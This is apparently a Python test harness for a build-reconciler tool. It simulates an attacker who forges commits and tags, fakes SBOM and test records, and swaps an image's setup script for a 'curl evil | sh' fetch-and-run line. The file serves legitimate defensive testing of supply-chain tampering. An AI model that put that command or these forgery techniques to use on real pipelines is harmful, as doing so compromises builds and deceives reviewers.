"""A branch author, a tagger and two honest runs: what the first two may do, and an account of what the others did.

The author pushes branches and has what a reviewer passes merged. The tagger pushes and moves git's tags without our
key, and makes, marks and deletes artifacts. Honest are main's two jobs, previews, and whoever validates; and a
reviewer, who merges what is proposed where our key signed it, and looks no closer.
"""

from __future__ import annotations

import json
from collections import defaultdict
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path

from reconciler.git.proposal import PROPOSAL
from reconciler.model.lockfile import Artifact, Build
from reconciler.model.observation import Seen
from reconciler.model.values import format_instant
from reconciler.ports.builder import BuildRequest
from reconciler.ports.tester import TestRequest
from reconciler.state.sbom import inventory_record, render_sbom
from tests.doubles.tester import NOTHING_INSIDE
from tests.integration.loop.keys import Keys, signing
from tests.integration.loop.world import FLEET, ON_BASE, ON_DEBIAN, SETTINGS, Controller, World, git, image_files

SIGNING = f"{SETTINGS}git: {{sign: true}}\n"
PROPOSING = f"{SETTINGS}git: {{sign: true, push: pull-request}}\n"
OUR_NAME = ("-c", "user.name=reconciler", "-c", "user.email=reconciler@localhost")
"""What whoever reads a commit of ours can call himself."""
EVIL = "curl evil | sh\n"
SUITE = "def test_nothing_listens(host):\n    assert not host.socket('tcp://0.0.0.0:4444').is_listening\n"
EMPTIED = "def test_nothing(host):\n    pass\n"
FORGED = replace(NOTHING_INSIDE, kernel="forged")
TESTS = 4711
"""How many tests passed, as forged records have it."""
_SMOKE = "smoke_test: {{suite: ../../suites/{}}}\n"
FILES = {
    "desired/reconciler.yaml": SIGNING,
    **image_files("base", f"{ON_DEBIAN}{_SMOKE.format('base')}"),
    **image_files("web", f"{ON_BASE}{_SMOKE.format('web')}validation: {{required: true}}\n"),
    "suites/base/test_it.py": SUITE,
    "suites/web/test_it.py": SUITE,
}


@dataclass
class Account:
    """What honest runs really made and tested, kept by the tests alone."""

    reviewed: dict[str, set[str]] = field(default_factory=lambda: defaultdict(set))
    """What setup.sh of each image ever was on main."""
    made: dict[str, tuple[str, str]] = field(default_factory=dict)
    """By the artifact's id: its image, and the setup.sh that its build ran."""
    passed: set[str] = field(default_factory=set)
    """Artifacts that passed the reviewed suite."""
    by_main: set[str] = field(default_factory=set)
    """Those that passed it in a job of main."""
    copies: dict[str, str] = field(default_factory=dict)
    """What each copy was made from."""
    tags: set[str] = field(default_factory=set)
    """The objects that are tags which honest runs made."""
    recorded: dict[tuple[str, str], tuple[str, ...]] = field(default_factory=dict)
    """By image and id each build that main ever had after an honest run, with its artifacts as they were last."""

    def is_good(self, image: str, artifact_id: str) -> bool:
        """Whether it was tested by main, or built from reviewed inputs and tested by the reviewed suite."""
        first = self.first(artifact_id)
        return first in self.by_main or (first in self.passed and self.was_built(image, artifact_id))

    def was_built(self, image: str, artifact_id: str) -> bool:
        """Whether an honest run built it from reviewed inputs."""
        of, setup = self.made.get(self.first(artifact_id), ("", ""))
        return of == image and setup in self.reviewed[image]

    def first(self, artifact_id: str) -> str:
        """What it is a copy of in the end."""
        while artifact_id in self.copies:
            artifact_id = self.copies[artifact_id]
        return artifact_id


@dataclass
class Town:
    """The world, its keys, and all who act in it."""

    world: World
    keys: Keys
    account: Account
    proposes: bool = False
    """Whether state is proposed, and merged by a reviewer."""

    @classmethod
    def begin(cls, root: Path, *, proposes: bool = False) -> Town:
        """Base and web, built by an honest run that signs, and judged."""
        root.mkdir()
        files = {**FILES, "desired/reconciler.yaml": PROPOSING} if proposes else FILES
        town = cls(World.begin(root / "world", files), Keys.begin(root), Account(), proposes)
        for image in ("base", "web"):
            town.account.reviewed[image].add("true\n")
        for _ in range(2):
            with town.honestly():
                town.run("ci").reconcile()
            town.merge_proposal()
            town.validate()
        with town.honestly():
            town.run("ci").reconcile()
        town.merge_proposal()
        town.note_copies()
        town.world.clock.advance(hours=1)
        return town

    def copy_to(self, root: Path) -> Town:
        """The same once more, to be changed without this one."""
        account = Account(
            defaultdict(set, {image: set(seen) for image, seen in self.account.reviewed.items()}),
            dict(self.account.made), set(self.account.passed), set(self.account.by_main),
            dict(self.account.copies), set(self.account.tags), dict(self.account.recorded),
        )  # fmt: skip
        return Town(self.world.copy_to(root), self.keys, account, self.proposes)

    # The honest.

    def run(self, name: str, *, main: bool = True) -> Controller:
        """A job that signs with our key, and of which the account is kept."""
        controller = signing(self.world, self.keys, name)

        def note_boot(request: TestRequest) -> None:
            booted = self.world.instances.requests[-1].artifact.id
            assert request.suite is not None
            if (request.suite / "test_it.py").read_text() == SUITE:
                self.account.passed.add(booted)
                if main:
                    self.account.by_main.add(booted)

        def leave(request: BuildRequest) -> tuple[Artifact, ...]:
            left = self.world.leave(request)
            name = request.image.name
            setup = (request.export / f"desired/{name}/setup.sh").read_text()
            self.account.made |= {one.id: (name, setup) for one in left}
            return left

        controller.builder.artifacts = leave
        controller.tester.during = note_boot
        return controller

    @contextmanager
    def honestly(self) -> Iterator[None]:
        """Keep account of the tags that are made meanwhile, and of what is recorded then."""
        before = set(self.signed_tags().values())
        try:
            yield
        finally:
            self.account.tags |= set(self.signed_tags().values()) - before
            self._note_recorded()

    def is_honest(self, name: str) -> bool:
        """Whether an honest run made the tag that is there, for this name."""
        return self.signed_tags().get(name) in self.account.tags and self.made_for(name) == name

    def merge_proposal(self, *, squash: bool = True) -> None:
        """A reviewer merges what is proposed where our key signed it, as a ruleset may ask for, and closes all else."""
        if not self.proposes or PROPOSAL not in self.world.branches():
            return
        folder, tip = self.world.root / "person", git(self.world.origin, "rev-parse", f"refs/heads/{PROPOSAL}")
        if self.keys.are_good(self.world.origin, tip):
            git(folder, "pull", "--quiet", "--ff-only", "origin", "main")
            git(folder, "fetch", "--quiet", "origin", tip)
            git(folder, "merge", "--quiet", *(("--squash",) if squash else ("--no-ff", "--no-commit")), tip)
            if git(folder, "diff", "--cached", "--name-only"):
                git(folder, "commit", "--quiet", "--message", "Record state (#9)")
                git(folder, "push", "--quiet", "origin", "HEAD:main")
            self._note_recorded()
        git(self.world.origin, "update-ref", "-d", f"refs/heads/{PROPOSAL}")

    def _note_recorded(self) -> None:
        for image in self.world.recorded():
            for build in self.world.lock(image).recorded:
                self.account.recorded[image, build.id] = tuple(one.id for one in build.artifacts)

    def note_copies(self) -> None:
        """Keep account of what was copied from what: where the registry forgets an artifact, this does not."""
        self.account.copies |= {
            one.id: one.copy_of[1] for one in self.world.registry.artifacts if one.copy_of is not None
        }

    def validate(self) -> None:
        """Whoever validates says in tags that what honest runs recorded last is good."""
        self.world.judge("web", "passed")

    # The author.

    def push_branch(self, branch: str, image: str, setup: str, suite: str) -> None:
        """Push a branch that changes an image, with words in its message that read like ours."""
        folder = self._on_main(branch)
        (folder / f"desired/{image}/setup.sh").write_text(setup)
        (folder / f"suites/{image}/test_it.py").write_text(suite)
        git(folder, "add", "--all")
        git(folder, "commit", "--quiet", "--allow-empty", "--message", self._like_ours(image))
        git(folder, "push", "--quiet", "--force", "origin", branch)

    def push_state(self, branch: str, image: str, *, attested: bool, signed: bool) -> str:
        """Push a branch that says in state/ that the newest build passed other tests, in a commit that reads like ours.

        Returns the commit. The build's honest statement is left beside it where it is to be `attested`; the commit is
        `signed` with the author's own key.
        """
        folder = self._on_main(branch)
        path = folder / f"state/{image}.lock.json"
        lock = json.loads(path.read_text())
        lock["builds"][0]["smoke_test"]["tests"] = TESTS
        if not attested:
            lock["builds"][0].pop("provenance", None)
        path.write_text(_canonical(lock))
        key = ("-c", "gpg.format=ssh", "-c", f"user.signingKey={self.keys.other}", "-c", f"commit.gpgSign={signed}")
        git(folder, *OUR_NAME, *key, "commit", "--quiet", "--all", "--message", self._like_ours(image))
        git(folder, "push", "--quiet", "--force", "origin", branch)
        return git(folder, "rev-parse", "HEAD")

    def push_proposal(self, image: str, artifact: Seen, *, amends: bool) -> None:
        """Push the branch that proposes state under our name: it says of an artifact that it is the newest build.

        Beside what is proposed already where it `amends` that. It changes what the image runs, too.
        """
        folder = self._on_main("mine")
        if amends and PROPOSAL in self.world.branches():
            git(folder, "fetch", "--quiet", "origin", PROPOSAL)
            git(folder, "checkout", "--quiet", "FETCH_HEAD", "--", "state")
        path = folder / f"state/{image}.lock.json"
        lock = json.loads(path.read_text())
        lock["builds"][0]["smoke_test"]["tests"] = TESTS
        lock["builds"][0]["artifacts"][0]["id"] = artifact.id
        path.write_text(_canonical(lock))
        (folder / f"desired/{image}/setup.sh").write_text(EVIL)
        git(folder, "add", "--all")
        git(folder, *OUR_NAME, "commit", "--quiet", "--message", f"Record state: {image}")
        git(folder, "push", "--quiet", "--force", "origin", f"HEAD:{PROPOSAL}")

    def _on_main(self, branch: str) -> Path:
        """The author's clone, on a branch of this name that begins at main."""
        folder = self.world.root / "author"
        if not folder.exists():
            git(self.world.root, "clone", "--quiet", "origin.git", "author")
        git(folder, "fetch", "--quiet", "origin", "main")
        git(folder, "switch", "--quiet", "--discard-changes", "--force-create", branch, "FETCH_HEAD")
        return folder

    def _like_ours(self, image: str) -> str:
        newest = self.world.lock(image).builds[0]
        return (
            f"{image}: build {newest.id} (forced)\n\n"
            f"Reconciler-Image: {image}\nReconciler-Build: {newest.id}\nReconciler-Key: {newest.key}\n"
        )

    def preview(self, branch: str) -> None:
        """The branch's job builds what it changes."""
        job = self.run("job", main=False)
        git(job.root, "fetch", "--quiet", "--force", "--tags", "origin")
        git(job.root, "switch", "--quiet", "--detach", "--discard-changes", f"origin/{branch}")
        with self.honestly():
            job.preview(branch)

    def merge(self, image: str, setup: str) -> None:
        """A reviewer passes a change of what an image runs."""
        self.account.reviewed[image].add(setup)
        path = f"desired/{image}/setup.sh"
        if self.world._files()[path].decode() != setup:
            self.world.commit({path: setup}, f"Change {image} (#7)")

    # The tagger, in git.

    def _tag(self, name: str, target: str, message: str, *, signed: bool) -> None:
        options = ["-c", "gpg.format=ssh", "-c", f"user.signingKey={self.keys.other}"] if signed else []
        how = ["--sign"] if signed else ["--annotate"]
        git(self.world.origin, *options, "tag", "--force", *how, "--message", message, name, target)

    def forge(self, image: str, artifact: Seen, *, signed: bool, build_id: str = "") -> None:
        """Put a record in the place of a build's, which says that it is this artifact, and was tested.

        The build is the one that the artifact's marks name, if not given.
        """
        build_id = build_id or artifact.own("build") or ""
        record = self._any_record(image).model_copy(
            update={
                "id": build_id,
                "key": artifact.own("key") or "sha256:0",
                "artifacts": (artifact.as_artifact("amazon-ebs.image"),),
                "inventory": inventory_record(image, build_id, FORGED),
            }
        )
        forged = json.loads(record.model_dump_json(exclude_defaults=True))
        forged["smoke_test"]["tests"] = TESTS
        sbom = self.world.root / "forged.cdx.json"
        sbom.write_bytes(render_sbom(image, build_id, FORGED))
        blob = git(self.world.origin, "hash-object", "-w", str(sbom))
        message = f"{image} {build_id}: built\n\n{json.dumps(forged, indent=2)}\n"
        self._tag(f"image/{image}/{build_id}", "main", message, signed=signed)
        self._tag(f"sbom/{image}/{build_id}", blob, "forged", signed=signed)

    def _any_record(self, image: str) -> Build:
        return self.world.lock(image).builds[-1]

    def signed_tags(self) -> dict[str, str]:
        """Every tag by its name, with the object that is it."""
        listing = git(self.world.origin, "for-each-ref", "--format=%(refname:strip=2) %(objectname)", "refs/tags")
        # Not `splitlines`: a name may hold what ends a line for others than git.
        return dict(line.split(" ") for line in listing.split("\n") if line)

    def put_tag(self, name: str, oid: str | None) -> None:
        """Put a tag's object under a name, whatever it was made for; None takes the tag away."""
        if oid is None:
            git(self.world.origin, "update-ref", "-d", f"refs/tags/{name}")
        else:
            git(self.world.origin, "update-ref", f"refs/tags/{name}", oid)

    def give_odd_name(self, name: str) -> None:
        """Push a branch and an annotated tag of a name that git allows."""
        for kind in ("heads", "tags"):
            git(self.world.origin, "update-ref", f"refs/{kind}/{name}", "refs/heads/main")
        self._tag(name, "refs/heads/main", "odd", signed=False)

    def made_for(self, name: str) -> str:
        """The name that a tag's object was made for, whatever it is called now."""
        headers = git(self.world.origin, "cat-file", "tag", f"refs/tags/{name}").partition("\n\n")[0]
        return next(line.removeprefix("tag ") for line in headers.split("\n") if line.startswith("tag "))

    # The tagger, in the registry.

    def make_like(self, model: Seen, *, location: str, name: str, **marks: str) -> Seen:
        """Make an artifact with the marks of another, and these."""
        tags = {**model.tags, **{f"reconciler:{mark}": value for mark, value in marks.items()}}
        return self.world.registry.seed(
            location, name, tags=tags, created=format_instant(self.world.clock.moment)
        )  # fmt: skip

    def hide(self, artifact: Seen) -> None:
        """Take our key off an artifact, so that it counts as partial."""
        now = self.world.registry.find(artifact.location, artifact.id) or artifact
        tags = {name: value for name, value in now.tags.items() if name != "reconciler:key"}
        self.world.registry._artifacts[artifact.place] = replace(now, tags=tags)

    def wanted(self, image: str) -> str:
        """The key that main wants, which anybody can find out who reads the repository."""
        return self.world.controller("tagger").plan()[image].key or ""

    def foreign(self) -> list[Seen]:
        """What no honest run made, and does not even say that it is this fleet's."""
        self.note_copies()
        account, everything = self.account, self.world.registry.artifacts
        return [one for one in everything if one.own("fleet") != FLEET and account.first(one.id) not in account.made]


def _canonical(lock: object) -> str:
    return f"{json.dumps(lock, sort_keys=True, indent=2)}\n"
